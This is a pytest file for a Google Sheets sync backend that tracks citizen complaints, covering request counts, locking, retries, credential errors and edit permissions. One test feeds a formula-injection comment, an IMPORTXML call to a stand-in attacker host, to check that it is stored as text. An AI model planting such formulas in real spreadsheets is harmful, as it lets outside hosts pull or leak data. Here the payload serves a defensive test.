"""The Google Sheets backend against the local Sheets API fake: budget, lock, retries, errors."""

from __future__ import annotations

import json
import re

import pytest
from click.testing import CliRunner

import cli
from sheets_sync.backends.gsheets import GoogleSheetsBackend
from sheets_sync.errors import Busy, TrackerError
from sheets_sync.schema import load_schema
from sheets_sync.sources import FileSource
from sheets_sync.sync import init_tracker, run_sync
from sheets_sync.timeutil import parse_timestamp
from tests.fake_sheets_fixtures import JOB_EMAIL
from tests.helpers import comment, post, write_export
from tests.trackers import GoogleHarness, records

NOW = parse_timestamp("2026-11-26T12:00:00+05:30")
SCHEMA = load_schema()


@pytest.fixture
def google(request, tmp_path):
    return GoogleHarness.make(request, tmp_path)


def export_of(folder, n_comments, departments=("SWM", "WS", "ROADS"), start=0):
    posts = [post(f"P{d}", "x", department=d) for d in departments]
    comments = [comment(f"C{i:05d}", f"P{departments[i % len(departments)]}", f"तक्रार {i} 🙏")
                for i in range(start, start + n_comments)]
    return write_export(folder, posts, comments)


def sync(google, folder, roster_file, **kw):
    return run_sync(google.backend(), [FileSource(folder)], SCHEMA, roster_path=roster_file,
                    now=NOW, **kw)


def api_calls(server):
    return [(r["method"], r["path"].rsplit("/", 1)[-1]) for r in server.requests]


def test_steady_state_sync_costs_three_requests_whatever_the_size(google, roster_file, tmp_path):
    sync(google, export_of(tmp_path / "a", 5), roster_file)
    for size in (10, 600):
        google.server.clear_requests()
        result = sync(google, export_of(tmp_path / f"b{size}", size, start=1000 * size), roster_file)
        assert result.summary()["comments_added"] == size
        calls = api_calls(google.server)
        assert len(calls) == 3, calls
        assert [m for m, _ in calls] == ["GET", "POST", "POST"]
    assert len(records(google.values("Comments"))) == 615
    # A dry run reads and never writes (it lists every tab to find the departments' tabs).
    google.server.clear_requests()
    sync(google, export_of(tmp_path / "c", 3, start=99_000), roster_file, dry_run=True)
    assert [m for m, _ in api_calls(google.server)] == ["GET", "GET", "GET"]


def column_index(letters: str) -> int:
    n = 0
    for ch in letters:
        n = n * 26 + ord(ch) - 64
    return n - 1


def test_answering_costs_a_row_not_a_tab_rewrite(google, roster_file, tmp_path):
    """A department tab of 400 open comments: answering the most urgent one deletes that
    row; the rest stay where they are, nothing else is written, and the comment texts
    already in the tracker are not read again."""
    folder = export_of(tmp_path / "a", 1200)
    sync(google, folder, roster_file)
    first = records(google.values("Solid Waste Management"))[0]["Comment ID"]
    google.type_in("Comments", "Comment ID", first, "Status", "Replied")
    google.server.clear_requests()
    sync(google, folder, roster_file)
    log = google.server.requests
    assert [r["method"] for r in log] == ["GET", "POST", "POST"]
    write = log[-1]["request_bytes"]
    assert write < 4_000, write  # a deleted row and a time stamp, not 400 rows
    # The comments' words were not read: no range of the read (which rides on the lock)
    # covers the Comment column.
    text_column = google.values("Comments")[0].index("Comment")
    ranges = log[1]["response_ranges"]
    spans = [re.match(r"'Comments'!([A-Z]+)2:([A-Z]+)$", r) for r in ranges]
    spans = [(column_index(m[1]), column_index(m[2])) for m in spans if m]
    assert spans and not any(a <= text_column <= b for a, b in spans), ranges
    assert first not in [r["Comment ID"] for r in records(google.values("Solid Waste Management"))]
    assert len(records(google.values("Solid Waste Management"))) == 399


def test_carrying_a_reply_from_a_tab_costs_no_extra_request(google, roster_file, tmp_path):
    """The check that no row moved under the write (the owner's sort) rides on the
    write's own reply: the key columns as they stand after it."""
    folder = export_of(tmp_path / "a", 30)
    sync(google, folder, roster_file)
    first = records(google.values("Solid Waste Management"))[0]["Comment ID"]
    google.type_in("Solid Waste Management", "Comment ID", first, "Reply", "उत्तर दिले 🙏")
    google.server.clear_requests()
    result = sync(google, folder, roster_file)
    assert result.summary()["values_carried"] == 1
    assert [r["method"] for r in google.server.requests] == ["GET", "POST", "POST"]
    master = {r["Comment ID"]: r for r in records(google.values("Comments"))}
    assert master[first]["Reply"] == "उत्तर दिले 🙏"


def test_citizen_text_is_written_as_strings_never_formulas(google, roster_file, tmp_path):
    folder = write_export(tmp_path / "e", [post("P1")], [
        comment("C1", "P1", "=IMPORTXML(\"http://evil.example\",\"//a\")"),
        comment("C2", "P1", "+1 2"), comment("C3", "P1", "2026-01-01")])
    sync(google, folder, roster_file)
    for cid, text in (("C1", "=IMPORTXML(\"http://evil.example\",\"//a\")"), ("C2", "+1 2"),
                      ("C3", "2026-01-01")):
        value, is_formula = google.raw_cell("Comments", "Comment ID", cid, "Comment")
        assert value == text and not is_formula


def test_people_are_kept_out_during_the_write_window_and_told_so(google, roster_file, tmp_path):
    sync(google, export_of(tmp_path / "a", 3), roster_file)
    refused, accepted = [], []

    def person_types_during_window(info, phase):
        # Between the lock (with the read) and the write, an officer sorts and types a reply.
        if phase == "after" and info.identity == JOB_EMAIL and (info.body or {}).get("responseRanges") \
                and any("addProtectedRange" in r for r in info.body.get("requests", [])):
            for action in (lambda: google.sort("Comments", "Comment", descending=True),
                           lambda: google.type_in("Comments", "Comment ID", "C00000", "Reply", "ok")):
                try:
                    action()
                    accepted.append(action)
                except Exception as exc:  # the fake raises Google's error, as the UI shows it
                    refused.append(str(exc))

    google.server.on_request(person_types_during_window)
    sync(google, export_of(tmp_path / "b", 4, start=10), roster_file)
    assert len(refused) == 2 and not accepted
    assert all("protected" in message for message in refused)
    # After the run the lock is gone: the same edit now goes through.
    google.server._hooks.clear()
    google.type_in("Comments", "Comment ID", "C00000", "Reply", "ok")
    sheet = google.server.spreadsheet(google.sid).sheet_by_title("Comments")
    assert not [p for p in sheet.protected_ranges if "sheets-sync lock" in p.get("description", "")]


def test_a_fresh_lock_means_busy_and_a_stale_one_is_removed(google, roster_file, tmp_path):
    folder = export_of(tmp_path / "a", 3)
    sync(google, folder, roster_file)
    comments_id = google.server.spreadsheet(google.sid).sheet_by_title("Comments").sheet_id
    other = google.server.as_user(JOB_EMAIL)

    def lock(stamp):
        return other.batch_update(google.sid, [{"addProtectedRange": {"protectedRange": {
            "range": {"sheetId": comments_id, "startRowIndex": 0},
            "description": f"sheets-sync lock other {stamp}",
            "editors": {"users": [JOB_EMAIL]}}}}])

    from datetime import UTC, datetime, timedelta

    lock(datetime.now(UTC).isoformat(timespec="seconds"))
    before = google.values("Comments")
    with pytest.raises(Busy, match="another sheets-sync run"):
        sync(google, export_of(tmp_path / "b", 5), roster_file)
    assert google.values("Comments") == before
    sheet = google.server.spreadsheet(google.sid).sheet_by_title("Comments")
    sheet.protected_ranges[:] = [p for p in sheet.protected_ranges
                                 if "lock" not in p.get("description", "")]
    lock((datetime.now(UTC) - timedelta(hours=1)).isoformat(timespec="seconds"))
    assert sync(google, export_of(tmp_path / "b", 5), roster_file).summary()["comments_added"] == 2
    sheet = google.server.spreadsheet(google.sid).sheet_by_title("Comments")
    assert not [p for p in sheet.protected_ranges if "sheets-sync lock" in p.get("description", "")]


def test_quota_and_server_errors_are_retried(google, roster_file, tmp_path):
    sync(google, export_of(tmp_path / "a", 3), roster_file)
    google.server.fail_next(2, status=429)
    google.server.fail_next(1, status=503, method="GET")
    result = sync(google, export_of(tmp_path / "b", 6), roster_file)
    assert result.summary()["comments_added"] == 3


@pytest.mark.parametrize("fault", ["drop", "503"])
def test_a_write_that_landed_but_was_not_acknowledged_is_not_doubled(google, roster_file, tmp_path, fault):
    sync(google, export_of(tmp_path / "a", 3), roster_file)
    # The final write (the second batchUpdate of the run) is applied, then the answer is lost.
    state = {"n": 0}

    def arm(info, phase):
        if phase == "before" and info.method == "POST" and info.path.endswith(":batchUpdate"):
            state["n"] += 1
            if state["n"] == 1:  # the lock went through; break the write that follows
                if fault == "drop":
                    google.server.drop_next(1, method="POST", path=":batchUpdate", when="after")
                else:
                    google.server.fail_next(1, status=503, method="POST", path=":batchUpdate", when="after")

    google.server.on_request(arm)
    sync(google, export_of(tmp_path / "b", 8), roster_file)
    ids = [r["Comment ID"] for r in records(google.values("Comments"))]
    assert sorted(ids) == sorted(set(ids)) and len(ids) == 8
    google.server._hooks.clear()
    assert sync(google, export_of(tmp_path / "b", 8), roster_file).plan.changes == []


def test_a_write_that_did_not_land_is_sent_again(google, roster_file, tmp_path):
    sync(google, export_of(tmp_path / "a", 3), roster_file)
    state = {"n": 0}

    def arm(info, phase):
        if phase == "before" and info.method == "POST" and info.path.endswith(":batchUpdate"):
            state["n"] += 1
            if state["n"] == 1:
                google.server.drop_next(1, method="POST", path=":batchUpdate", when="before")

    google.server.on_request(arm)
    result = sync(google, export_of(tmp_path / "b", 7), roster_file)
    assert result.summary()["comments_added"] == 4
    assert len(records(google.values("Comments"))) == 7


def test_unshared_spreadsheet_names_the_address_to_share_with(google, roster_file, tmp_path):
    sid = google.server.create_spreadsheet("private", "someone@mahapalika.example")
    backend = GoogleSheetsBackend(sid, credentials=str(google.key), sleep=lambda s: None)
    with pytest.raises(TrackerError, match=f"not shared with {JOB_EMAIL}.*Share"):
        init_tracker(backend, SCHEMA, roster_file)


def test_missing_spreadsheet(google, roster_file):
    backend = GoogleSheetsBackend("1" * 44, credentials=str(google.key), sleep=lambda s: None)
    with pytest.raises(TrackerError, match="not found; check the id"):
        init_tracker(backend, SCHEMA, roster_file)


@pytest.mark.parametrize("content, message", [
    (None, "credentials file not found"),
    ("not json", "not a JSON key file"),
    (json.dumps({"type": "authorized_user", "client_id": "x"}), "not a service-account key"),
    (json.dumps({"type": "service_account", "client_email": "a@b"}), "has no 'private_key'"),
    (json.dumps({"type": "service_account", "client_email": "a@b", "token_uri": "http://x",
                 "private_key": "-----BEGIN PRIVATE KEY-----\nnope\n-----END PRIVATE KEY-----\n"}),
     "private key in the file cannot be read"),
])
def test_bad_credentials_are_named_and_never_printed(google, roster_file, tmp_path, content, message):
    key = tmp_path / "key.json"
    if content is not None:
        key.write_text(content)
    result = CliRunner().invoke(cli.main, ["init", "--tracker", google.sid, "--credentials", str(key),
                                           "--roster", str(roster_file)])
    assert result.exit_code == 2, result.output
    assert message in result.output and "Traceback" not in result.output
    assert "PRIVATE KEY" not in result.output and "nope" not in result.output


def test_no_credentials_at_all(google, monkeypatch, roster_file):
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS", raising=False)
    result = CliRunner().invoke(cli.main, ["sync", "--tracker", google.sid, "--roster", str(roster_file)])
    assert result.exit_code == 2
    assert "no Google credentials" in result.output


def test_cli_sync_on_google_by_url(google, roster_file, tmp_path, monkeypatch):
    for k, v in google.env.items():
        monkeypatch.setenv(k, v)
    url = f"https://docs.google.com/spreadsheets/d/{google.sid}/edit#gid=0"
    folder = export_of(tmp_path / "a", 4)
    result = CliRunner().invoke(cli.main, ["sync", "--tracker", url, "--source", f"files:{folder}",
                                           "--roster", str(roster_file), "--json"])
    assert result.exit_code == 0, result.output
    summary = json.loads(result.output)
    assert summary["comments_added"] == 4 and summary["tracker"] == f"Google Sheets {google.sid}"
    key_text = google.key.read_text()
    assert json.loads(key_text)["private_key"][40:80] not in result.output


def test_who_may_edit_what(google, roster_file, tmp_path):
    """Officers edit their own department's tab and people's columns; the job's columns are the cell's."""
    from sheets_sync.testing.fake_sheets import ApiError

    officer = "swm.nodal@mahapalika.example"  # SWM's nodal officer in the test roster
    google.server.share(google.sid, officer, "writer")
    sync(google, export_of(tmp_path / "a", 6), roster_file)
    user = google.server.as_user(officer)

    def cell(title, key, header):
        row, col = google._find(title, "Comment ID", key, header)
        from tests.trackers import _letter, _q

        return f"{_q(title)}!{_letter(col)}{row + 1}"

    user.edit(google.sid, cell("Solid Waste Management", "C00000", "Reply"), [["ok from SWM"]], raw=True)
    user.edit(google.sid, cell("Comments", "C00000", "Notes"), [["note"]], raw=True)
    for title, key, header in (("Solid Waste Management", "C00000", "Comment"),  # a job column
                               ("Water Supply", "C00001", "Reply"),  # another department's tab
                               ("Comments", "C00000", "Comment"),  # the master's job column
                               ("Comments", "C00000", "Approve"),  # the cell approves replies
                               ("Comments", "C00000", "Move to department")):  # and moves comments
        with pytest.raises(ApiError) as refused:
            user.edit(google.sid, cell(title, key, header), [["x"]], raw=True)
        assert refused.value.code == 400 and "protected cell" in refused.value.message
    sync(google, export_of(tmp_path / "a", 6), roster_file)
    master = {r["Comment ID"]: r for r in records(google.values("Comments"))}
    assert master["C00000"]["Reply"] == "ok from SWM" and master["C00000"]["Notes"] == "note"


def test_officers_may_answer_rows_that_arrive_at_the_top_of_their_tab(google, roster_file, tmp_path):
    """New rows never go above the tab's first data row (they would fall outside the
    ranges that start there: the columns officers may edit, the dropdown, the red)."""
    officer = "swm.nodal@mahapalika.example"
    google.server.share(google.sid, officer, "writer")
    posts = [post("PSWM", "x", department="SWM")]
    later = [comment(f"L{i}", "PSWM", f"later {i}", at=f"2026-11-26T0{i}:00:00+05:30") for i in range(1, 4)]
    sync(google, write_export(tmp_path / "a", posts, later), roster_file)
    earlier = [comment("E0", "PSWM", "older, so more urgent", at="2026-11-25T01:00:00+05:30"),
               comment("M0", "PSWM", "between", at="2026-11-25T12:00:00+05:30")]
    google.server.clear_requests()
    sync(google, write_export(tmp_path / "b", posts, later + earlier), roster_file)
    # The old top row is written again lower down, its words taken from the tab's own
    # first row (read whole): no extra request.
    assert [r["method"] for r in google.server.requests] == ["GET", "POST", "POST"]
    assert [r["Comment ID"] for r in records(google.values("Solid Waste Management"))] == \
        ["E0", "M0", "L1", "L2", "L3"]
    assert [r["Comment"] for r in records(google.values("Solid Waste Management"))][2] == "later 1"
    user = google.server.as_user(officer)
    from tests.trackers import _letter, _q

    for key in ("E0", "M0", "L1"):
        row, col = google._find("Solid Waste Management", "Comment ID", key, "Reply")
        user.edit(google.sid, f"{_q('Solid Waste Management')}!{_letter(col)}{row + 1}", [[f"ok {key}"]],
                  raw=True)
    sync(google, write_export(tmp_path / "b", posts, later + earlier), roster_file)
    master = {r["Comment ID"]: r for r in records(google.values("Comments"))}
    assert [master[k]["Reply"] for k in ("E0", "M0", "L1")] == ["ok E0", "ok M0", "ok L1"]
    assert [r["Comment ID"] for r in records(google.values("Solid Waste Management"))] == ["L2", "L3"]


def test_overdue_rows_turn_red_by_a_live_rule(google, roster_file, tmp_path):
    sync(google, export_of(tmp_path / "a", 2), roster_file)
    for title in ("Comments", "Solid Waste Management"):
        rules = google.server.spreadsheet(google.sid).sheet_by_title(title).conditional_formats
        formulas = [r["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for r in rules]
        assert any("NOW()>VALUE(" in f and 'N("sheets-sync")' in f for f in formulas), formulas


def test_nul_and_control_characters_round_trip_exactly(google, roster_file, tmp_path):
    # Google keeps what a workbook cannot (there they become U+FFFD): the text stays exact.
    text = "a\x00\x07\x1bb\x0b\x0c — tab\tand line\nfeed"
    folder = write_export(tmp_path / "export", [post("P1")], [comment("C1", "P1", text)])
    sync(google, folder, roster_file)
    rows = {r["Comment ID"]: r for r in records(google.values("Comments"))}
    assert rows["C1"]["Comment"] == text
    assert sync(google, folder, roster_file).plan.changes == []
